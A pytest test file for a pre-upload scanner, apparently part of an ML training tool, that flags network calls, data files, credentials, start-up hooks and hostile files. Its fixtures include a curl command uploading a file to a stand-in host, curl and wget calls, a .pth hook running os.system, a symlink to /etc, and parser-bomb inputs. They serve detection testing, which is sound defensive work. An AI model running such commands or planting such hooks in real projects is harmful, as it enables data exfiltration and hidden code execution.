"""The scan of a folder, a job and a file: what travels, what is refused, allowances, and files that fight back."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path

import pytest

from core.errors import JobError
from core.events import Progress, ScanFinding, ScanFinished, from_json, to_json
from core.jobs.scan import scanning
from core.jobs.scan.rules import BY_ID
from core.jobs.scan.scanning import MOST_OF_FILE, Wanted, scan
from core.jobs.scan.staged import StagedFile
from core.jobs.service import LiveJobs
from tests.unit.test_scan_content import ROWS
from tests.unit.test_snapshots import write

SENDS = "import requests\nrequests.post('http://e.example')\n"


def scanned(path: Path, wanted: Wanted | None = None) -> tuple[list[ScanFinding], ScanFinished]:
    *found, ended = (each for each in scan(path, wanted) if not isinstance(each, Progress))
    assert isinstance(ended, ScanFinished) and all(isinstance(each, ScanFinding) for each in found)
    assert [from_json(to_json(each)) for each in found] == found  # encodes, whatever is in it
    return found, ended  # type: ignore[return-value]


def told(path: Path, wanted: Wanted | None = None) -> list[tuple[str, int, str]]:
    return [(each.file, each.line, each.rule) for each in scanned(path, wanted)[0]]


def test_a_folder_is_told_with_what_would_travel(tmp_path: Path) -> None:
    write(tmp_path, {"train.py": "print(1)\n", "lib/send.py": SENDS, "data/all.csv": ROWS, "data/few.csv": ROWS[:80]})
    write(tmp_path, {"run": "#!/bin/bash\ncurl http://e.example\n", "requirements.txt": "wandb\n", ".env": "X=1\n"})
    write(tmp_path, {"Dockerfile": "FROM x\nRUN a && \\\n  curl http://e.example\n", "sitecustomize.py": "x = 1\n"})
    (tmp_path / "client.pfx").write_bytes(b"\x30\x82\0")
    write(tmp_path, {"sub/.gitignore": "*.csv\n", "sub/ignored.csv": ROWS, "x.pth": "import os; os.system('x')\n"})
    (tmp_path / "out").symlink_to("/etc")
    found, ended = scanned(tmp_path)
    assert [(each.file, each.line, each.rule) for each in found] == [
        ("out", 0, "link-outside"),
        ("Dockerfile", 2, "command"),
        ("client.pfx", 0, "private-key"),
        ("data/all.csv", 0, "data-file"),
        ("data/few.csv", 0, "small-data-file"),
        ("lib/send.py", 2, "http"),
        ("requirements.txt", 1, "package-telemetry"),
        ("run", 2, "command"),
        ("sitecustomize.py", 0, "start-hook"),
        ("x.pth", 0, "start-hook"),
    ]
    assert ended.counts == {"refused": 3, "warning": 6, "note": 1, "allowed": 0}
    assert ended.ignore_files == ["sub/.gitignore"] and "sub/ignored.csv" not in [each.path for each in ended.files]
    assert (ended.kind, ended.bytes) == ("folder", sum(each.bytes for each in ended.files))
    sends = found[5]
    assert (sends.leak, sends.level, sends.reason) == ("Net", "warning", BY_ID["http"].reason)


def test_an_allowance_counts_with_a_reason_on_its_line_or_the_one_above(tmp_path: Path) -> None:
    post = "requests.post('http://e.example')"
    lines = [
        "import requests",
        f"{post}  # trainshed: allow http because it is the licence server",
        "# trainshed: allow http, socket because of the licence server",
        post,
        f"{post}  # trainshed: allow http",
        f"{post}  # trainshed: allow htpp because typo",
        f"{post}  # trainshed: allow socket because it is another rule",
        "# trainshed: allow http because it is too far up",
        "",
        post,
        "# trainshed: allow http because the statement is long",
        "requests.post(",
        "    'http://e.example',",
        ")",
        f"x = 1; {post}  # trainshed: allow http because of this line alone",
        post,
    ]
    write(tmp_path, {"train.py": "\n".join(lines)})
    found, ended = scanned(tmp_path)
    assert {each.line: each.allowed for each in found if each.allowed} == {
        2: "it is the licence server",
        4: "of the licence server",
        12: "the statement is long",
        15: "of this line alone",
    }
    assert ended.counts == {"refused": 0, "warning": 5, "note": 2, "allowed": 4}
    wrong = {each.line: each.seen for each in found if each.rule == "allowance"}
    assert wrong == {5: "it gives no reason", 6: "there is no rule htpp, http is one"}


def test_a_file_without_comments_is_allowed_in_an_ignore_file(tmp_path: Path) -> None:
    because = "# trainshed: allow data-file, small-data-file {} because names of wards, public\n"
    write(tmp_path, {"a/x.csv": ROWS, "a/y.csv": ROWS, "x.csv": ROWS, ".amlignore": because.format("a/*.csv")})
    found, _ = scanned(tmp_path)
    assert {each.file: each.allowed for each in found} == {
        "a/x.csv": "names of wards, public", "a/y.csv": "names of wards, public", "x.csv": "",
    }  # fmt: skip
    write(
        tmp_path, {".amlignore": because.format("").replace(" because", ""), "a/.gitignore": because.format("/y.csv")}
    )
    assert [each.file for each in scanned(tmp_path)[0] if each.allowed] == ["a/y.csv"]


def test_many_pictures_are_refused_and_a_few_are_not(tmp_path: Path) -> None:
    for number in range(25):
        (tmp_path / f"{number:02}.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(20))
    assert told(tmp_path) == [("00.png", 0, "images")]
    (tmp_path / "00.png").unlink()
    assert told(tmp_path) == []


def test_copies_of_staged_data_are_found_by_hash_or_by_name_and_size(tmp_path: Path) -> None:
    import hashlib

    write(tmp_path, {"a.bin": "0123456789", "b.bin": "9876543210", "named.txt": "x" * 11, "other.txt": "x" * 11})
    known = [
        StagedFile(path="p/train.csv", size=10, sha256=hashlib.sha256(b"0123456789").hexdigest()),
        StagedFile(path="p/named.txt", size=11),
        StagedFile(path="p/empty.txt", size=0),
    ]
    assert told(tmp_path, Wanted(staged=known)) == [("a.bin", 0, "staged-data"), ("named.txt", 0, "staged-data")]


JOB = """$schema: https://azuremlschemas.azureedge.net/latest/commandJob.schema.json
code: src
command: >-
  python entry --data ${{inputs.data}}
  && curl -T x http://e.example
inputs:
  data: { type: uri_file, path: https://e.example/x.csv }
  more: { type: uri_folder, path: local }
environment:
  image: x
  conda_file: conda.yml
environment_variables:
  DB_PASSWORD: Summer2024x
"""


def test_a_job_file_is_scanned_with_its_command_environment_and_code(tmp_path: Path) -> None:
    write(
        tmp_path,
        {"job.yml": JOB, "src/entry": SENDS, "conda.yml": "dependencies: \n- pip:\n  - git+https://e.example/x\n"},
    )
    write(tmp_path, {"local/rows.csv": ROWS})
    place = str(tmp_path / "job.yml")
    expected = [
        (place, 5, "command"),
        (place, 7, "download"),
        (place, 13, "password"),
        (str(tmp_path / "conda.yml"), 3, "package-address"),
        ("entry", 2, "http"),
    ]
    assert told(tmp_path / "job.yml") == expected
    aliases = Wanted(aliases={"https://e.example/": "x/"})
    write(tmp_path, {"x.txt": "--index-url https://e.example/simple\n"})
    mapped = Wanted(environments={"x": str(tmp_path / "x.txt")})
    assert (str(tmp_path / "x.txt"), 1, "package-address") in told(tmp_path / "job.yml", mapped)
    assert [each.path for each in scanned(tmp_path / "job.yml")[1].files] == ["entry", "inputs.more/rows.csv"]
    assert told(tmp_path / "job.yml", aliases) == [each for each in expected if each[2] != "download"]
    assert told(tmp_path / "src" / "entry") == [(str(tmp_path / "src" / "entry"), 2, "http")]


def test_a_notebook_tells_cells_commands_and_stored_outputs_by_the_lines_of_its_file(tmp_path: Path) -> None:
    table = {"output_type": "execute_result", "data": {"text/html": ["<table>"]}}
    cells = [
        {"cell_type": "markdown", "source": ["requests.post('http://e.example')"]},
        {
            "cell_type": "code",
            "source": ["%matplotlib inline\n", "import requests\n", "!curl http://e.example\n", "x = !ls"],
        },
        {"cell_type": "code", "source": "print 'not Python'", "outputs": [table]},
        {
            "cell_type": "code",
            "source": ["# trainshed: allow http because ok\n", "requests.get(u)\n", "requests.put(u)"],
        },
        {"cell_type": "code", "source": ["%%bash\n", "wget http://e.example"]},
        {"cell_type": "code", "source": ["%%time\n", "requests.patch(u)"]},
    ]
    (tmp_path / "x.ipynb").write_text(json.dumps({"cells": cells}, indent=1))
    lines = (tmp_path / "x.ipynb").read_text().split("\n")
    found, ended = scanned(tmp_path)
    seen = [(each.rule, lines[each.line - 1].strip()[:15] if each.line else "", bool(each.allowed)) for each in found]
    assert seen == [
        ("notebook-output", "", False),
        ("command", '"!curl http://e', False),
        ("not-read", '"source": "prin', False),
        ("http", '"requests.get(u', True),
        ("http", '"requests.put(u', False),
        ("command", '"wget http://e.', False),
        ("http", '"requests.patch', False),
    ]
    assert ended.counts["allowed"] == 1


HOSTILE: dict[str, str | bytes] = {
    "parens.py": "exec\nx=" + "(" * 100_000 + ")" * 100_000,
    "minus.py": "exec\nx=" + "-" * 200_000 + "1",
    "plus.py": "exec\nx=" + "+".join(["1"] * 50_000),
    "calls.py": "exec\nx=a" + "()" * 50_000,
    "lambda.py": "exec\nx=" + "lambda:" * 20_000 + "1",
    "nul.py": SENDS + "\0",
    "nulfar.py": "x = 1\n" * 20_000 + "\0",
    "utf16.py": SENDS.encode("utf-16"),
    "cookie.py": "# coding: rot13\nexec",
    "latin.py": "import requests # é".encode("latin-1"),
    "python2.py": "exec 'x'\n",
    "large.py": b"x = 1\n" * 400_000,
    "deep.ipynb": '{"cells":' + "[" * 50_000 + "]" * 50_000 + "}",
    "none.ipynb": "[]",
    "noform.ipynb": '{"cells":[{"cell_type":"code","source":[1]}]}',
}


def test_files_that_fight_back_are_one_clear_finding_each(tmp_path: Path) -> None:
    for name, text in HOSTILE.items():
        (tmp_path / name).write_bytes(text if isinstance(text, bytes) else text.encode())
    with (tmp_path / "sparse.py").open("wb") as file:
        file.truncate(100_000_000)
    (tmp_path / "new\nline\x1b[31m.py").write_text(SENDS)
    (tmp_path / os.fsdecode(b"\xff.py")).write_text(SENDS)
    (tmp_path / "bomb.py").write_text('x = "a" * 10**12\nexec("%0999999999d" % 1)\nexec(("a" * 60000) * 60000)\n')
    for name, target in (("loop1", "loop2"), ("loop2", "loop1"), ("dot", "."), ("gone", "nowhere")):
        (tmp_path / name).symlink_to(target)
    os.mkfifo(tmp_path / "pipe.py")
    with socket.socket(socket.AF_UNIX) as wire:
        here = Path.cwd()
        os.chdir(tmp_path)  # its path has to be short
        wire.bind("wire")
        os.chdir(here)
        found = told(tmp_path)
    expected = dict.fromkeys((*HOSTILE, "sparse.py"), "not-read")
    expected |= dict.fromkeys(("pipe.py", "wire", "\\udcff.py"), "not-sendable")
    expected |= {"new\nline\x1b[31m.py": "http", "bomb.py": "hidden-code"}
    assert sorted((file, rule) for file, _, rule in found) == sorted(expected.items())


def test_a_file_with_any_number_of_findings_says_so_and_ends(tmp_path: Path) -> None:
    write(tmp_path, {"x.sh": "curl http://e.example\n" * 5000})
    found, _ = scanned(tmp_path)
    assert len(found) == MOST_OF_FILE + 1
    assert (found[-1].rule, found[-1].seen) == ("not-read", "4,800 findings more are not listed")


def test_too_much_is_refused_with_the_largest_named(tmp_path: Path) -> None:
    for number in range(2001):
        (tmp_path / f"{number}").touch()
    (found,) = scanned(tmp_path)[0]
    assert found.rule == "too-much" and "2,001 files" in found.seen and "the largest: " in found.seen


def test_what_is_not_there_or_no_file_is_an_error(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    write(tmp_path, {"job.yml": "command: x\n"})
    titles = {"gone": "there is no file or folder", "pipe": "neither a file nor", "job.yml": "environment is missing"}
    for name, title in titles.items():
        with pytest.raises(JobError, match=title):
            list(scan(tmp_path / name))


def test_a_file_alone_is_what_it_is(tmp_path: Path) -> None:
    write(tmp_path, {"config.yml": "lr: 0.1\npassword: Summer2024x\n", "conda.yml": "dependencies:\n  - wandb\n"})
    write(tmp_path, {"notes.txt": "import requests; requests.get('x')", "long.py": SENDS + "# x\n" * 30_000 + SENDS})
    (tmp_path / "link.py").symlink_to("long.py")
    assert [each[1:] for each in told(tmp_path / "config.yml")] == [(2, "password")]
    assert [each[1:] for each in told(tmp_path / "conda.yml")] == [(2, "package-telemetry")]
    assert told(tmp_path / "notes.txt") == []
    assert [each[1:] for each in told(tmp_path / "link.py")] == [(2, "http"), (30_004, "http")]


def test_code_in_other_languages_is_one_note(tmp_path: Path) -> None:
    write(tmp_path, {"train.R": "download.file('http://e.example', 'x')\n", "ext/k.cpp": "int x;\n", "entry.r": SENDS})
    write(tmp_path, {"README.md": "R", "x.py": "x = 1\n"})
    assert [each[1:] for each in told(tmp_path / "train.R")] == [(0, "other-language")]
    (one,) = scanned(tmp_path)[0]
    assert (one.level, one.file, one.seen) == ("note", "entry.r", "3 files of C++, R, such as entry.r")
    write(tmp_path, {".amlignore": "# trainshed: allow other-language entry.r because we read it\n"})
    assert [each.allowed for each in scanned(tmp_path)[0]] == ["we read it"]


async def test_the_service_yields_findings_and_how_far_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path, {"x.py": SENDS})
    monkeypatch.setattr(scanning, "BETWEEN", -1.0)
    everything = [event async for event in LiveJobs().scan(tmp_path)]
    assert everything[0] == Progress(title="Looking at files", done=0, total=1, unit="files")
    seen = [event for event in everything if not isinstance(event, Progress)]
    assert [type(event) for event in seen] == [ScanFinding, ScanFinished]
    with pytest.raises(JobError):
        async for _ in LiveJobs().scan(tmp_path / "gone"):
            pass
